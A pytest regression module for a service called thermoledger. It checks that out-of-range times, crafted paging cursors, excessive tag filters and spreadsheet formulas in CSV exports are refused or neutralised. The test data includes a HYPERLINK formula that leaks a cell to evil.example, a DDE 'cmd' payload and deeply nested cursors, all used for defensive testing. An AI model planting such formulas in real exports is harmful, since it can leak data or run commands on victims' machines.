"""Regression tests of issue 13's hostile inputs (item 3) and formulas in exports (item 5).

Each input here was a 500 (or went out of an export as a live formula) before the fix: times at
the edges of the calendar with an offset (``OverflowError`` converting them to UTC), the runs
page adding a day to 9999-12-31, crafted paging cursors, 1000 ``tag=`` filters (a 503 on
SQLite), and run names or ledger notes that a spreadsheet runs. Every refusal must be a 4xx
naming the field and write nothing (the fingerprint of every table is compared). The stored
time range (`service.timebounds`) is checked at every write path, and it follows the settings.

The ``/login`` form and clients that disconnect mid-body are tested where they were fixed
(issue 13's other parts); the randomised sweep over all of this is ``test_hostile_fuzz.py``.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import math
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi import FastAPI

from tests.faults.harness import fingerprint
from tests.support import dbutil
from tests.support.builders import T0_S, batch, chunk, device
from tests.support.client import (
    OPERATOR_TOKEN,
    Project,
    TestClient,
    clean_settings,
    create_run,
    make_project,
)
from thermoledger.db import migrate
from thermoledger.db.errors import InvalidInput
from thermoledger.db.models import Run
from thermoledger.db.types import TimeOutOfRange, UTCDateTime
from thermoledger.meters.wire import BINARY_CONTENT_TYPE, dumps_binary_batch
from thermoledger.service.app import create_app
from thermoledger.service.csv_writer import FORMULA_LEADS, unguard

#: Times whose UTC equivalent leaves the calendar (the 500s of the review).
CALENDAR_EDGES = ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00")
EARLIEST = "2000-01-01T00:00:00Z"
LATEST = "2100-01-01T00:00:00Z"
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
EVIL_NOTE = "+cmd|' /C calc'!A0"


@pytest.fixture
def client(app: FastAPI) -> TestClient:
    return TestClient(app, raise_server_exceptions=False)


@pytest.fixture
def project(app: FastAPI) -> Project:
    return make_project(app)


@pytest.fixture(params=dbutil.BACKENDS)
def database_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """A migrated database of each backend, for apps with settings of a test's own."""
    with dbutil.database_url(request.param, tmp_path) as url:
        migrate.upgrade(url)
        yield url


@contextmanager
def app_with(database_url: str, **settings: Any) -> Iterator[FastAPI]:
    """The app over ``database_url`` with ``settings`` (and the operator token)."""
    application = create_app(
        clean_settings(database_url=database_url, bootstrap_admin_token=OPERATOR_TOKEN, **settings)
    )
    try:
        yield application
    finally:
        application.state.engine.dispose()


def _refused(response: Any, field: str) -> dict[str, Any]:
    """The body of a 422 naming ``field``."""
    assert response.status_code == 422, (field, response.status_code, response.text)
    body: dict[str, Any] = response.json()
    assert body["field"] == field, body
    return body


# --------------------------------------------------------------------------- calendar edges


def _time_targets(run: str, slug: str, when: str) -> list[tuple[str, str, dict[str, Any], str]]:
    """Every route that takes a time, with ``when`` in it: (method, path, request, field)."""
    factor = {"region": "DE", "basis": "location", "intensity": "300 gCO2e/kWh", "source": "s"}
    tariff = {"region": "DE", "price": "0.1 USD/kWh", "source": "s"}
    offset = {"figure": "offset", "quantity": "1 gCO2e", "reference": "r"}
    return [
        (
            "PUT",
            f"/api/v1/runs/{uuid.uuid4()}",
            {"json": {"name": "x", "started_at": when}},
            "started_at",
        ),
        ("POST", f"/api/v1/runs/{run}/finish", {"json": {"ended_at": when}}, "ended_at"),
        (
            "POST",
            f"/api/v1/runs/{run}/fail",
            {"json": {"ended_at": when, "exit_code": 1}},
            "ended_at",
        ),
        (
            "POST",
            f"/api/v1/projects/{slug}/tokens",
            {"json": {"name": "t", "scopes": ["read"], "expires_at": when}},
            "expires_at",
        ),
        ("POST", "/api/v1/ledger", {"json": {**offset, "at": when}}, "at"),
        ("POST", "/api/v1/factors", {"json": {**factor, "valid_from": when}}, "valid_from"),
        (
            "POST",
            "/api/v1/factors",
            {"json": {**factor, "valid_from": EARLIEST, "valid_to": when}},
            "valid_to",
        ),
        ("POST", "/api/v1/factors/1/close", {"json": {"valid_to": when}}, "valid_to"),
        ("POST", "/api/v1/tariffs", {"json": {**tariff, "valid_from": when}}, "valid_from"),
        ("POST", "/api/v1/tariffs/1/close", {"json": {"valid_to": when}}, "valid_to"),
        ("GET", "/api/v1/runs", {"params": {"started_after": when}}, "started_after"),
        ("GET", "/api/v1/runs", {"params": {"started_before": when}}, "started_before"),
        ("GET", "/api/v1/factors/lookup", {"params": {"at": when, "region": "DE"}}, "at"),
        ("GET", "/api/v1/tariffs/lookup", {"params": {"at": when, "region": "DE"}}, "at"),
        ("GET", "/api/v1/rollups", {"params": {"from": when}}, "from"),
        ("GET", "/api/v1/rollups", {"params": {"to": when}}, "to"),
        ("GET", "/api/v1/audit/export", {"params": {"from": when, "format": "csv"}}, "from"),
        ("GET", "/runs", {"params": {"started_after": when}}, "started_after"),
        ("GET", "/runs", {"params": {"started_before": when}}, "started_before"),
    ]


def test_a_time_outside_the_stored_range_is_422_naming_its_field_everywhere(
    app: FastAPI, client: TestClient, project: Project
) -> None:
    """Was: ``OverflowError`` in `db.types` (500) at the calendar's edges; now every route that
    takes a time refuses one outside [earliest_time, latest_time], naming the field and the
    range, and writes nothing."""
    run = create_run(client, project)
    before = fingerprint(app.state.engine)
    for when in (*CALENDAR_EDGES, "1999-12-31T23:59:59.999999Z", "2100-01-01T00:00:00.000001Z"):
        for method, path, request, field in _time_targets(run, project.slug, when):
            response = client.request(method, path, headers=project.every, **request)
            body = _refused(response, field)
            assert EARLIEST in body["detail"], body
            assert LATEST in body["detail"], body
    assert fingerprint(app.state.engine) == before


def test_the_edges_of_the_range_are_stored(client: TestClient, project: Project) -> None:
    """Both ends are included: a run may start at earliest_time and end at latest_time."""
    run = create_run(client, project, started_at=EARLIEST)
    response = client.post(
        f"/api/v1/runs/{run}/finish", json={"ended_at": LATEST}, headers=project.every
    )
    assert response.status_code == 200, response.text
    listed = client.get(
        "/api/v1/runs",
        params={"started_after": EARLIEST, "started_before": LATEST},
        headers=project.read,
    )
    assert [r["id"] for r in listed.json()["items"]] == [run]


def test_the_runs_page_takes_the_last_days_of_the_calendar(database_url: str) -> None:
    """Was: ``/runs?started_before=9999-12-31`` added a day past the calendar (500)."""
    with app_with(database_url) as app:
        client, project = TestClient(app, raise_server_exceptions=False), make_project(app)
        page = client.get("/runs", params={"started_before": "9999-12-31"}, headers=project.read)
        _refused(page, "started_before")
        for day in ("2099-12-31", "2100-01-01"):
            page = client.get("/runs", params={"started_before": day}, headers=project.read)
            assert page.status_code == 200, (day, page.text)
    with app_with(database_url, latest_time=datetime(9999, 12, 31, tzinfo=UTC)) as app:
        client, project = TestClient(app, raise_server_exceptions=False), make_project(app)
        page = client.get("/runs", params={"started_before": "9999-12-31"}, headers=project.read)
        assert page.status_code == 200, page.text


# --------------------------------------------------------------------------- chunks, phases


def test_chunk_times_outside_the_range_are_refused_in_both_encodings(
    app: FastAPI, client: TestClient, project: Project
) -> None:
    run = create_run(client, project)
    url = f"/api/v1/runs/{run}/chunks"
    early = chunk(0, t0_s=946_684_799.0)  # 1999-12-31T23:59:59Z
    late = chunk(0, t0_s=4_102_444_800.0 - 5.0)  # ends 5 s after 2100-01-01Z
    before = fingerprint(app.state.engine)
    for body, field in ((early, "chunks[0].t0_s"), (late, "chunks[0].t1_s")):
        _refused(client.post(url, json=batch([body]), headers=project.ingest), field)
        binary = dumps_binary_batch([device()], [body])  # type: ignore[list-item]
        response = client.post(
            url,
            content=binary,
            headers={**project.ingest, "Content-Type": BINARY_CONTENT_TYPE},
        )
        _refused(response, field)
    huge = {**chunk(0), "t0_s": 1e300, "t1_s": 1e300, "samples": None}
    _refused(client.post(url, json=batch([huge]), headers=project.ingest), "chunks[0].t0_s")
    assert fingerprint(app.state.engine) == before


def test_phase_times_outside_the_range_are_refused(
    app: FastAPI, client: TestClient, project: Project
) -> None:
    run = create_run(client, project)
    before = fingerprint(app.state.engine)
    for phase, field in (
        ({"t0_s": 0.0}, "t0_s"),
        ({"t0_s": 946_684_799.0}, "t0_s"),
        ({"t0_s": 1e300}, "t0_s"),
        ({"t0_s": T0_S, "t1_s": 4.2e9}, "t1_s"),
    ):
        response = client.post(
            f"/api/v1/runs/{run}/phases", json={"name": "p", **phase}, headers=project.ingest
        )
        _refused(response, field)
    assert fingerprint(app.state.engine) == before


def test_the_range_follows_the_settings_per_app(database_url: str) -> None:
    """THERMOLEDGER_EARLIEST_TIME / _LATEST_TIME: an app configured from 1990 stores a 1995 run
    and its chunks; an app on the defaults in the same process still refuses them."""
    start = datetime(1995, 6, 1, tzinfo=UTC)
    start_s = start.timestamp()
    wide = {"earliest_time": datetime(1990, 1, 1, tzinfo=UTC)}
    with app_with(database_url, **wide) as app, app_with(database_url) as default:
        client = TestClient(app, raise_server_exceptions=False)
        other = TestClient(default, raise_server_exceptions=False)
        project = make_project(app)
        run = create_run(client, project, started_at=start.isoformat())
        for route, payload in (
            ("chunks", batch([chunk(0, t0_s=start_s)])),
            ("phases", {"name": "p", "t0_s": start_s}),
        ):
            response = client.post(
                f"/api/v1/runs/{run}/{route}", json=payload, headers=project.every
            )
            assert response.status_code in (200, 201), response.text
        refused = other.put(
            f"/api/v1/runs/{uuid.uuid4()}",
            json={"name": "x", "started_at": start.isoformat()},
            headers=project.every,
        )
        body = _refused(refused, "started_at")
        assert EARLIEST in body["detail"]
        listed = client.get(
            "/api/v1/runs", params={"started_after": "1991-01-01T00:00:00Z"}, headers=project.read
        )
        assert [r["id"] for r in listed.json()["items"]] == [run]
        # Every route that takes a time reads the app's range, not the defaults.
        for method, path, request, field in _time_targets(
            run, project.slug, "1995-07-01T00:00:00Z"
        ):
            response = client.request(method, path, headers=project.every, **request)
            assert response.status_code < 500, (path, response.text)
            assert "outside the time range" not in response.text, (path, field, response.text)


# --------------------------------------------------------------------------- db.types


def test_the_column_type_refuses_a_time_without_utc_equivalent_as_invalid_input(
    app: FastAPI,
) -> None:
    """Defence in depth: `UTCDateTime` raises `TimeOutOfRange` (an `InvalidInput`, 422), never
    ``OverflowError``, and SQLAlchemy raises it unwrapped from inside a statement."""
    for when in CALENDAR_EDGES:
        value = datetime.fromisoformat(when)
        with pytest.raises(TimeOutOfRange):
            UTCDateTime().process_bind_param(value, app.state.engine.dialect)
        with (
            pytest.raises(InvalidInput) as refused,
            app.state.engine.connect() as connection,
        ):
            connection.execute(sa.select(Run.__table__).where(Run.__table__.c.started_at > value))
        assert isinstance(refused.value, TimeOutOfRange)
        assert when in str(refused.value)


def test_an_ordinary_offset_still_converts() -> None:
    east = datetime(2025, 1, 1, 9, tzinfo=timezone(timedelta(hours=9)))
    stored = UTCDateTime().process_bind_param(east, sa.create_engine("sqlite://").dialect)
    assert stored == datetime(2025, 1, 1, 0, 0)


# --------------------------------------------------------------------------- cursors, tags


def _cursor(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


#: Cursors no server issued: deep nesting, wrong types, a time without a UTC equivalent.
CRAFTED_CURSORS = (
    _cursor(b"[" * 3000),
    _cursor(b"[" * 150 + b"]" * 150),
    _cursor(json.dumps(["2025-01-01T00:00:00+00:00", 5]).encode()),
    _cursor(json.dumps(["0001-01-01T00:00:00+14:00", str(uuid.uuid4())]).encode()),
    _cursor(json.dumps(["9999-12-31T23:59:59-14:00", str(uuid.uuid4())]).encode()),
    _cursor(json.dumps([5, str(uuid.uuid4())]).encode()),
    _cursor(json.dumps(["2025-01-01T00:00:00+00:00", "not-a-uuid"]).encode()),
    _cursor(json.dumps(["2025-01-01T00:00:00", str(uuid.uuid4())]).encode()),
    _cursor(json.dumps({"a": 1}).encode()),
    _cursor(json.dumps(["a", "b", "c"]).encode()),
    _cursor(b"\xff\xfe\x00"),
    "%%%",
    "",
)


def test_a_crafted_cursor_is_422_naming_cursor(client: TestClient, project: Project) -> None:
    """Was: RecursionError, AttributeError and OverflowError (500s)."""
    for cursor in CRAFTED_CURSORS:
        response = client.get("/api/v1/runs", params={"cursor": cursor}, headers=project.read)
        _refused(response, "cursor")


def test_an_issued_cursor_still_pages(client: TestClient, project: Project) -> None:
    made = {create_run(client, project) for _ in range(3)}
    seen: list[str] = []
    params: dict[str, Any] = {"limit": 1}
    for _ in range(4):
        page = client.get("/api/v1/runs", params=params, headers=project.read).json()
        seen += [r["id"] for r in page["items"]]
        if page["next_cursor"] is None:
            break
        params["cursor"] = page["next_cursor"]
    assert sorted(seen) == sorted(made)


@pytest.mark.parametrize("path", ["/api/v1/runs", "/runs"])
def test_too_many_tag_filters_are_422_naming_tag(
    client: TestClient, project: Project, path: str
) -> None:
    """Was: 1000 filters made SQLite's expression too deep, reported as a 503 outage."""
    many = [("tag", f"k{i}=v") for i in range(1000)]
    body = _refused(client.get(path, params=many, headers=project.read), "tag")
    assert "at most 16" in body["detail"]
    enough = [("tag", f"k{i}=v") for i in range(16)]
    assert client.get(path, params=enough, headers=project.read).status_code == 200


def test_the_tag_filter_cap_follows_the_settings(database_url: str) -> None:
    with app_with(database_url, max_tag_filters=2) as app:
        client, project = TestClient(app, raise_server_exceptions=False), make_project(app)
        three = [("tag", f"k{i}=v") for i in range(3)]
        _refused(client.get("/api/v1/runs", params=three, headers=project.read), "tag")


# --------------------------------------------------------------------------- CSV formulas


def _formula_cells(text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet would run: text (not a number the writer formatted)
    whose first non-blank character is a formula lead."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            try:
                if math.isfinite(float(value)):
                    continue  # a number, written as a number
            except ValueError:
                pass
            if value.lstrip().startswith(FORMULA_LEADS) or value.startswith(FORMULA_LEADS):
                found.append(value)
    return found


def test_no_exported_cell_is_a_formula(app: FastAPI, client: TestClient, project: Project) -> None:
    """Was: the auditor's export let ``=HYPERLINK(...)`` run names and ``+cmd|...`` notes out
    unchanged. Every CSV the service writes (the export, the run report) goes through the
    guard, names, notes, tags, hosts and phase names included, leading blanks too."""
    tags = {"team": "@SUM(1+1)", "blank": " =1+1", "tab": "\t=2", "dash": "-3+3"}
    run = create_run(client, project, name=EVIL_NAME, tags=tags)
    body = batch([chunk(0, host="=evil")])
    body["devices"][0]["name"] = " -2+3"  # kept as sent: a formula after a blank
    response = client.post(f"/api/v1/runs/{run}/chunks", json=body, headers=project.ingest)
    assert response.status_code == 200, response.text
    phase = {"name": "@phase", "t0_s": T0_S, "t1_s": T0_S + 5}
    assert client.post(f"/api/v1/runs/{run}/phases", json=phase, headers=project.ingest).is_success
    assert client.post(f"/api/v1/runs/{run}/finish", headers=project.ingest).status_code == 200
    note = {
        "figure": "offset",
        "quantity": "1 kgCO2e",
        "reference": " =cmd",
        "note": EVIL_NOTE,
        "run_id": run,
    }
    assert client.post("/api/v1/ledger", json=note, headers=project.admin).status_code == 201

    export = client.get("/api/v1/audit/export", params={"format": "csv"}, headers=project.read)
    report = client.get(f"/api/v1/runs/{run}/report.csv", headers=project.read)
    for response in (export, report):
        assert response.status_code == 200, response.text
        assert _formula_cells(response.text) == []
    cells = {value for row in csv.reader(io.StringIO(export.text)) for value in row}
    assert {"'" + EVIL_NAME, "'" + EVIL_NOTE, "'=cmd"} <= cells  # the reference is stripped
    assert {unguard(value) for value in cells} >= {EVIL_NAME, EVIL_NOTE}
    report_cells = {value for row in csv.reader(io.StringIO(report.text)) for value in row}
    assert {"'" + EVIL_NAME, "'@phase", "' -2+3", "'=evil"} <= report_cells
